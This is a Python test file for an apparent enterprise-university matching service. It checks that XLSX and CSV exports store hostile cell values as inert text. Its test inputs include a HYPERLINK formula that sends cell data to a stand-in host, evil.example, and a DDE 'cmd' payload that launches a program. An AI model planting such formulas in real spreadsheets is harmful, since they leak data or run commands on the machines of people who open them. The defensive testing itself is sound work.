"""Formula injection (#15.1): every exported text cell is text — XLSX string cells without an
``<f>`` element, CSV fields starting with ``= + - @`` TAB or CR prefixed with ``'`` — in the
round exports and in the CLI writers (``duijie match`` / ``assign`` / ``schedule`` outputs)."""

import csv
import io
import re
import zipfile
from pathlib import Path

from openpyxl import load_workbook

from matching import sheets
from matching.io import write_pairs
from matching.records import MatchedTerms, Ranking, ScoredPair
from service.commands.assign import write_rows
from tests.factories import capability, enterprise, need, university
from tests.rounds_helpers import make, make_org, run_to_completion

EVIL = [
    '=HYPERLINK("http://evil.example/?d="&B2,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
]


def assert_xlsx_all_text(content: bytes, expected: list[str]) -> None:
    """No formula anywhere in the workbook's XML, and each expected text in a string cell."""
    with zipfile.ZipFile(io.BytesIO(content)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                xml = zf.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, name
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    cells = {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    for text in expected:
        assert text in cells, text
        assert cells[text].data_type == "s", (text, cells[text].data_type)


def assert_csv_escaped(content: str, expected: list[str]) -> None:
    fields = [f for row in csv.reader(io.StringIO(content)) for f in row]
    for text in expected:
        assert "'" + text in fields, text
        assert text not in fields, text
    for f in fields:  # nothing else starts a formula either (a number is a number)
        assert not re.match(r"[=+\-@\t\r]", f) or re.fullmatch(r"-?[0-9.]+", f), f


def test_writers_store_text_as_text(tmp_path: Path):
    header = ["编号", "标题"]
    rows = [[i, t] for i, t in enumerate(EVIL)] + [[99, "焦化废水"], [100, -1.5]]
    # (XML turns a CR into a line feed on reading: compare the others.)
    assert_xlsx_all_text(sheets.xlsx_bytes("结果", header, rows), EVIL[:-1])
    text = sheets.csv_bytes(header, rows).decode("utf-8-sig")
    assert_csv_escaped(text, EVIL)
    parsed = list(csv.reader(io.StringIO(text)))
    assert ["99", "焦化废水"] in parsed and ["100", "-1.5"] in parsed  # numbers stay numbers

    # duijie match: ids come from the user's input file.
    pair = ScoredPair(
        demand_id=EVIL[0], supply_id=EVIL[1], rank=1, score=0.5, components={"text": 0.5},
        matched_terms=MatchedTerms(),
    )  # fmt: skip
    ranking = [Ranking(demand_id=EVIL[0], pairs=(pair,))]
    write_pairs(ranking, tmp_path / "pairs.xlsx")
    assert_xlsx_all_text((tmp_path / "pairs.xlsx").read_bytes(), EVIL[:2])
    write_pairs(ranking, tmp_path / "pairs.csv")
    assert_csv_escaped((tmp_path / "pairs.csv").read_text(encoding="utf-8-sig"), EVIL[:2])
    # duijie assign / schedule
    write_rows(
        tmp_path / "assigned.csv",
        ["demand_id", "supply_id", "score"],
        [{"demand_id": EVIL[2], "supply_id": EVIL[4], "score": 0.9}],
    )
    assert_csv_escaped((tmp_path / "assigned.csv").read_text(), [EVIL[2], EVIL[4]])


async def test_round_exports_keep_hostile_titles_as_text(client, empty_db):
    coal = await make_org(client, **enterprise(name="孝义市晋焦化工有限公司", city="吕梁"))
    uni = await make_org(client, **university(name="太原理工大学", city="太原"))
    words = {"keywords": ["焦化废水", "膜处理"], "field_codes": ["B07"]}
    await make(client, "/api/needs", need(coal, title=EVIL[0], **words))
    await make(client, "/api/capabilities", capability(uni, title=EVIL[1], **words))
    r = await client.post(
        "/api/rounds",
        json={"kind": "open_challenge", "title": "注入测试", "scope": {"everyone": True}},
    )
    rid = r.json()["id"]
    await client.post(f"/api/rounds/{rid}/transition", json={"to": "open"})
    await run_to_completion(client, empty_db, rid)
    assert (await client.post(f"/api/rounds/{rid}/publish")).status_code == 200
    for name in ("ranked", "assignment"):
        r = await client.get(f"/api/rounds/{rid}/export/{name}.xlsx")
        assert r.status_code == 200, r.text
        assert_xlsx_all_text(r.content, EVIL[:2])
        r = await client.get(f"/api/rounds/{rid}/export/{name}.csv")
        assert r.status_code == 200, r.text
        assert_csv_escaped(r.content.decode("utf-8-sig"), EVIL[:2])
